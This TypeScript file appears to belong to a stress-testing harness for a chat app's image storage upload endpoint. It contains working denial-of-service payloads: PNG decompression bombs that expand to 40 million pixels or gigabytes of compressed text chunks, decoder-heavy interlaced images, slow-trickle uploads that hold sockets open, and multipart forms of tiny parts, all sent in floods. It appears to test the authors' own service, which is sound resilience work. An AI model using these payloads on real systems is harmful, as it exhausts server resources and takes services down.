import { setTimeout as delay } from 'node:timers/promises'
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import type { Attack, Target } from '../attack.ts'
import { flood, loops, openUnread, send } from '../send.ts'

/**
 * Uploads: a picture that is cheap to send and expensive to decode, very slow bodies, and forms of tiny
 * parts.
 */

const HEIGHT = 40_000_000

type Chunk = [type: string, data: Buffer]

/** A complete, valid PNG of one grey column. */
function column(height: number, texts: Chunk[] = []): Buffer {
  const chunk = ([type, data]: Chunk) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
    const ends = Buffer.alloc(8)
    ends.writeUInt32BE(data.length, 0)
    ends.writeUInt32BE(crc32(body), 4)
    return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)])
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(1, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 8
  // A filter byte and a pixel for each row.
  const pixels = deflateSync(Buffer.alloc(2 * height))
  const chunks: Chunk[] = [['IHDR', header], ...texts, ['IDAT', pixels], ['IEND', Buffer.alloc(0)]]
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), ...chunks.map(chunk)])
}

/** 80 kB that decode to 40,000,000 pixels. */
const tallPicture = () => column(HEIGHT)

let made = 0
const placeFor = (target: Target, number: number) => {
  made += 1
  const pair = target.pairs[number % target.pairs.length]
  return {
    path: `/storage/v1/object/chat-media/${pair?.chatId}/${Date.now()}${made}.png`,
    token: pair?.seeker.token ?? '',
  }
}

const tallPictures: Attack = {
  name: 'pictures of 40,000,000 rows',
  run: (target) => {
    const body = tallPicture()
    const headers = { 'content-type': 'image/png' }
    return flood(target, 4, () => ({ method: 'POST', ...placeFor(target, 0), body, headers }))
  },
}

const TEXT_BYTES = 50_000_000
const TEXTS = 96

/** 4.7 MB whose texts and profiles expand to 4.8 GB. */
function pictureOfTexts(): Buffer {
  const packed = deflateSync(Buffer.alloc(TEXT_BYTES))
  const kinds: Chunk[] = [
    ['zTXt', Buffer.concat([Buffer.from('k\0\0'), packed])],
    ['iTXt', Buffer.concat([Buffer.from('k\0\x01\0\0\0'), packed])],
    ['iCCP', Buffer.concat([Buffer.from('k\0\0'), packed])],
  ]
  return column(
    10,
    Array.from({ length: TEXTS }, (_, i) => kinds[i % kinds.length]).filter((one) => one !== undefined),
  )
}

/** Two accounts send the same picture again and again, each twice at a time. */
const sendByTwo = (target: Target, body: Buffer) =>
  loops(target, 4, (loop) => {
    const headers = { 'content-type': 'image/png' }
    return send(target, { method: 'POST', ...placeFor(target, loop % 2), body, headers }, 4)
  })

const compressedTexts: Attack = {
  name: 'pictures of compressed texts',
  uploads: true,
  run: (target) => sendByTwo(target, pictureOfTexts()),
}

/** A picture that costs the decoder as much as any that it accepts, about 2 s of a core: interlaced, with the most pixels. */
const costlyPicture = () =>
  sharp({ create: { width: 6320, height: 6320, channels: 4, background: '#88442280' } })
    .png({ progressive: true, compressionLevel: 1 })
    .toBuffer()

const costlyPictures: Attack = {
  name: 'pictures of 40 megapixels',
  uploads: true,
  run: async (target) => sendByTwo(target, await costlyPicture()),
}

const endlessPictures: Attack = {
  name: 'pictures that the decoder never finishes',
  uploads: true,
  endless: true,
  run: async (target) => sendByTwo(target, await costlyPicture()),
}

const ACCOUNTS = 10
const EACH = 4
const TRICKLE_MS = 200
const DECLARED = 5_000_000

const trickledUploads: Attack = {
  name: 'trickled uploads',
  run: (target) =>
    loops(target, ACCOUNTS * EACH, async (number) => {
      const { path, token } = placeFor(target, number % ACCOUNTS)
      const socket = await openUnread(
        target,
        `POST ${path} HTTP/1.1\r\nHost: localhost\r\napikey: ${target.key}\r\nAuthorization: Bearer ${token}\r\n` +
          `Content-Type: image/png\r\nContent-Length: ${DECLARED}\r\n\r\n`,
      )
      socket.resume()
      target.count(socket.destroyed ? 'none' : 'upload')
      while (!socket.destroyed && !target.isOver()) {
        socket.write('x')
        await delay(TRICKLE_MS)
      }
      socket.destroy()
      await delay(TRICKLE_MS)
    }),
}

const PART = '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n'
const FORM_BYTES = 5_000_000

const tinyParts: Attack = {
  name: 'forms of 90,000 parts',
  run: (target) => {
    const body = `${PART.repeat(FORM_BYTES / PART.length)}--b--\r\n`
    const headers = { 'content-type': 'multipart/form-data; boundary=b' }
    return flood(target, 4, () => ({ method: 'POST', ...placeFor(target, made), body, headers }))
  },
}

export const uploadAttacks = [
  tallPictures,
  compressedTexts,
  costlyPictures,
  endlessPictures,
  trickledUploads,
  tinyParts,
]
